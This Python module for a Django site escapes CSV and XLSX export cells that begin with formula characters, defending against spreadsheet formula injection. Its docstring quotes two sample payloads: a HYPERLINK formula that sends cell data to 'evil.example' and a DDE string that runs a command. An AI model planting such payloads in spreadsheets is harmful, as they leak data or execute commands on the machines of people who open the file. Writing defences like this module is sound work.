"""Every CSV and XLSX the site writes goes through here, so that no cell can run as a formula.

Text in our exports comes from PDFs and officers' edits: an indicator named
`=HYPERLINK("http://evil.example/?"&A1,"Open")` or `@SUM(1+1)*cmd|' /C calc'!A0` would run when an
officer opens the file in Excel. OWASP's rule: a text cell that begins with = + - @, a tab or a
carriage return gets a leading apostrophe, so the spreadsheet shows it as text. Numbers stay
numbers (a negative figure is a number, not a formula), and a text cell that is a plain number
("-3.5", "+2%") is left as it is. XLSX is written by tablib (through openpyxl), which stores
every text cell as a string (data type "s"): nothing becomes a live formula or link.
"""

from __future__ import annotations

import datetime
import re
from decimal import Decimal

import tablib
from django_tables2.export import TableExport

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d+)?|\.\d+)(?:[eE][+-]?\d+)?%?")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def safe_cell(value):
    """A cell that cannot run: numbers, dates and None as they are; risky text quoted."""
    if value is None or isinstance(
        value, bool | int | float | Decimal | datetime.date | datetime.datetime
    ):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_dataset(headers, rows, title: str = "export") -> tablib.Dataset:
    dataset = tablib.Dataset(title=title[:31])
    dataset.headers = [safe_cell(h) for h in headers]
    for row in rows:
        dataset.append([safe_cell(value) for value in row])
    return dataset


def export_file(headers, rows, fmt: str, title: str = "export") -> tuple[bytes, str]:
    """The rows as CSV or XLSX bytes, and the content type."""
    dataset = safe_dataset(headers, rows, title)
    content = dataset.export(fmt)
    if isinstance(content, str):
        content = content.encode("utf-8")
    return content, CONTENT_TYPES[fmt]


class SafeTableExport(TableExport):
    """django-tables2's export (tablib underneath), with every cell passed through safe_cell."""

    def table_to_dataset(self, table, exclude_columns, dataset_kwargs=None):
        dataset = super().table_to_dataset(table, exclude_columns, dataset_kwargs)
        return safe_dataset(dataset.headers or [], list(dataset), dataset.title or "export")
